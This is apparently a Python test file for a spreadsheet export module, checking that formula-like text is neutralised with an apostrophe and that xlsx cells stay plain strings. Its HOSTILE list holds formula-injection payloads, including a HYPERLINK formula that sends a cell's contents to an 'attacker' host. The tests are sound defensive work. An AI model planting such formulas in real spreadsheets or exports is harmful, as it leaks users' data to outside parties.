"""geo.sheets: cells of every spreadsheet the product writes hold text as text."""
import io

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from geo import sheets

HOSTILE = ['=HYPERLINK("http://attacker/?"&A1,"点击")', "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_text_prefixes_formula_like_text_and_the_importer_takes_it_off(text):
    cell = sheets.csv_text(text)
    assert cell == "'" + text and not sheets.is_formula_like(cell)
    assert sheets.unquote_csv_text(cell) == text


def test_csv_text_leaves_other_values_alone():
    assert sheets.csv_text("宽巷子132号院") == "宽巷子132号院" and sheets.csv_text(-5) == -5 and sheets.csv_text(None) is None
    assert sheets.unquote_csv_text("'quoted'") == "'quoted'"  # an apostrophe the export did not add stays


@given(st.text(max_size=40))
def test_csv_text_round_trips_printable_text(text):
    clean = sheets.printable(text)
    assert sheets.unquote_csv_text(sheets.csv_text(clean)) == clean


def test_xlsx_cells_are_typed_strings_without_control_characters():
    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet("t")
    ws.append([sheets.text_cell(ws, v) for v in [*HOSTILE, "铃\x07声\x1b[0m", 12]])
    book = openpyxl.Workbook()
    sheets.set_text(book.active.cell(row=1, column=1), HOSTILE[0])
    for workbook in (wb, book):
        buffer = io.BytesIO()
        workbook.save(buffer)  # a control character would raise IllegalCharacterError here
        cells = list(openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())[0]
        assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
    assert [c.value for c in cells][:1] == [HOSTILE[0]]


def test_an_apostrophe_before_a_formula_survives_the_round_trip():
    assert sheets.csv_text("'=1+1") == "''=1+1" and sheets.unquote_csv_text("''=1+1") == "'=1+1"
